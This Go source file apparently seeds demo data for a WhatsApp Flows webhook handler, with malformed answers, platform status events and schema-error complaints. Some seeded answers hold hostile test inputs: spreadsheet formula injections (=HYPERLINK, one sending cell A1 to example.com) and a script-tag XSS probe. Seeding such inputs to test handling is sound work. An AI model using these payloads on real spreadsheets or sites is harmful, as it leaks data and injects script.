package demo

import (
	"context"
	"time"

	"switchyard/handlers/whatsapp/wire"
	"switchyard/models"
)

// oddities are what nobody planned for: answers without a flow or cut off, formulas, bodies that are no JSON, what
// phones complain of, and what platforms say besides.
func (f *filling) oddities(ctx context.Context, _ *Filled) error {
	var g gathering
	odd := func(ago time.Duration, answers string) {
		when := f.ago(ago)
		f.deliver(&g, reply(f.regular(), messageID(f.rand), "", answers, when), when)
	}
	odd(40*day, `{"score":"4","comment":"Sent from the old form, without a token."}`)
	odd(17*day, `{"score":"5","comment":"=HYPERLINK(\"http://example.com\",\"Free gift\")"}`)
	odd(9*day, `{"topping":"olives","size":"L","flow_token":"pizza.`+randomText(f.rand, 12)+`"}`)
	odd(26*hour, `{"name":"Ana","date":"tomorrow","flow_token":"unused"}`)
	odd(31*day, `{"flow_token":"appointment.`+randomText(f.rand, 12)+`","department":`)
	odd(5*day, `{"flow_token":"claim.`+randomText(f.rand, 12)+`","policy_no":"AB-2204`)
	odd(6*hour, `undefined`)
	odd(3*day, `{"score":"3","comment":"=HYPERLINK(\"http://example.com/?x=\"&A1,\"Click\")","flow_token":"survey.`+randomText(f.rand, 12)+`"}`)
	odd(2*day, `{"score":"1","comment":"<b>Bold</b> <script>alert(1)</script> & \"quotes\"","flow_token":"survey.`+randomText(f.rand, 12)+`"}`)
	for _, ago := range []time.Duration{22 * day, 4 * day} {
		f.deliver(&g, []byte(`{ "entry": [ { "changes": [ { "value": { "event": "ENDPOINT_AVAILABILITY", "alert_state: "ACTIVATED", } } ] } ] }`+randomText(f.rand, 4)), f.ago(ago))
	}
	f.platformSays(&g)
	for _, ago := range []time.Duration{24 * day, 10 * day, 30 * hour, 5 * hour} {
		g.records = append(g.records, f.complaint(ago))
	}
	return f.keep(ctx, g)
}

// platformSays are statuses of the flows, and news of the account.
func (f *filling) platformSays(g *gathering) {
	say := func(field string, ago time.Duration, value object) {
		f.deliver(g, body(field, f.ago(ago), value), f.ago(ago))
	}
	change := func(s *sample, ago time.Duration, old, new, message string) {
		v := object{"event": "FLOW_STATUS_CHANGE", "flow_id": s.row.MetaID, "new_status": new, "message": message}
		if old != "" {
			v["old_status"] = old
		}
		say("flows", ago, v)
	}
	for i, s := range f.flows {
		since := past - time.Duration(i)*hour
		change(s, since, "", "DRAFT", s.row.Name+" has been created with DRAFT status")
		change(s, since-25*minute, "DRAFT", "PUBLISHED", s.row.Name+" changed status from DRAFT to PUBLISHED")
	}
	claim, survey := f.flows[1], f.flows[2]
	change(claim, 25*day-40*minute, "PUBLISHED", "THROTTLED", claim.row.Name+" changed status from PUBLISHED to THROTTLED")
	change(claim, 25*day-3*hour, "THROTTLED", "PUBLISHED", claim.row.Name+" changed status from THROTTLED to PUBLISHED")
	say("flows", 6*day, object{"event": "FLOW_VERSION_EXPIRY_WARNING", "flow_id": survey.row.MetaID,
		"warning": "Your current Flow version will freeze in 21 days. You won't be able to send the Flow after it expires."})
	say("message_template_status_update", 58*day, object{"event": "APPROVED", "message_template_name": "booking_invitation", "message_template_language": "en", "reason": "NONE"})
	say("message_template_quality_update", 20*day, object{"message_template_name": "booking_invitation", "message_template_language": "en",
		"previous_quality_score": "UNKNOWN", "new_quality_score": "GREEN"})
	say("template_category_update", 9*day, object{"message_template_name": "survey_reminder", "message_template_language": "en",
		"previous_category": "UTILITY", "new_category": "MARKETING"})
	say("account_review_update", 59*day, object{"decision": "APPROVED"})
	say("business_capability_update", 13*day, object{"max_daily_conversations_per_business": "TIER_10K", "max_phone_numbers_per_business": 25})
	say("phone_number_quality_update", 13*day, object{"display_phone_number": phoneNumber, "event": "UPGRADE", "current_limit": "TIER_10K"})
}

// complaint is a phone that could not show what we sent.
func (f *filling) complaint(ago time.Duration) models.StepRecord {
	s := f.flows[0]
	_, number := s.at(f.ago(ago))
	return models.StepRecord{Step: models.Step{
		FlowID: s.row.ID, At: at(f.ago(ago)), Action: "data_exchange", Screen: "DETAILS", Kind: "notice", RuleVersion: number, Status: 200, Micros: 210,
		Faults: []string{"payload-schema-error: Data of the screen does not match its schema"},
		Data:   encode(object{"error": "payload-schema-error", "error_message": "Data of the screen does not match its schema"}),
		Answer: wire.AnswerAcknowledged(dataVersion),
	}}
}
